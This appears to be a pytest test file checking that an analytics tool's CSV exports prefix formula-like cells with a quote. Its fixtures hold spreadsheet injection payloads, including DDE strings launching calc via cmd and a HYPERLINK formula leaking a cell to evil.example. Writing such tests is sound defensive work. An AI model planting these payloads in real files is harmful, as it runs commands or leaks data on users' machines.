"""Every CSV the tool writes opens in a spreadsheet without running store text as a formula
(docs/security.md, "CSV files and spreadsheets"): a cell that starts with `=`, `+`, `-`, `@`, a
tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets, and message
text, tool names and thread ids are anyone's. Such a text cell is written with a `'` in front;
numbers, and text that is one whole number, are written as they are."""

from __future__ import annotations

import csv
import io

import pytest

from analytics.reporting.csv_cells import FORMULA_START
from tests.attacks.harness import attack, run_cli
from tests.attacks.stores import store_with_messages

SESSION = "=cmd|' /C calc'!A0"
THREAD = f"acme:web:{SESSION}"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NUMBER_TEXT = "-12"  # a decoy: text that is one whole number is not a formula


@pytest.fixture(scope="module")
def lens(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv-formulas")
    store, db = folder / "store.sqlite", folder / "lens.duckdb"
    messages = [{"type": "human", "content": f"{text}", "id": f"m{i}"} for i, text in enumerate(FORMULAS)]
    messages.append({"type": "ai", "content": NUMBER_TEXT, "id": "n1"})
    messages.append({"type": "ai", "content": "", "id": "t1", "tool_calls": [
        {"name": "=lookup", "args": {"q": "=1+1"}, "id": "call-1", "type": "tool_call"}]})
    store_with_messages(store, messages, thread_id=THREAD)
    attack(["load", str(store), "--db", str(db)], folder).succeeded()
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _formulas(text: str) -> list[str]:
    return [c for c in _cells(text) if c and c[0] in FORMULA_START and c != NUMBER_TEXT and not c.lstrip("-").isdigit()]


def _check(text: str, *expected: str) -> None:
    assert _formulas(text) == []
    cells = _cells(text)
    for value in expected:
        assert "'" + value in cells, (value, cells)


@pytest.mark.parametrize("redact", [False, True])
def test_report_csv_writes_formulas_as_text(lens, tmp_path, redact):
    out = tmp_path / "transcript.csv"
    run_cli(["report", "transcript", "--db", str(lens), "--out", str(out), *(["--redact"] if redact else [])],
            tmp_path).succeeded()
    text = out.read_bytes().decode()
    _check(text, *FORMULAS, *([] if redact else [SESSION]))
    assert NUMBER_TEXT in _cells(text)


def test_transcript_and_search_csv_write_formulas_as_text(lens, tmp_path):
    shown = run_cli(["transcript", "--db", str(lens), "--thread", THREAD, "--format", "csv"], tmp_path).succeeded()
    _check(shown.stdout, *FORMULAS, SESSION)
    assert NUMBER_TEXT in _cells(shown.stdout)
    found = run_cli(["search", "cmd", "--db", str(lens), "--format", "csv"], tmp_path).succeeded()
    _check(found.stdout, "-2+3+cmd|' /C calc'!A0")
    assert len(_cells(found.stdout)) > 11  # hits were written


def test_app_downloads_write_formulas_as_text(lens):
    from analytics import read
    from analytics.transcript.reading import TranscriptQuery
    from ui.render import csv_bytes

    frame = read(lens, TranscriptQuery(THREAD))
    _check(csv_bytes(frame).decode(), *FORMULAS, SESSION)
    from analytics.reporting.writer import frame_csv

    _check(frame_csv(frame).decode(), *FORMULAS, SESSION)
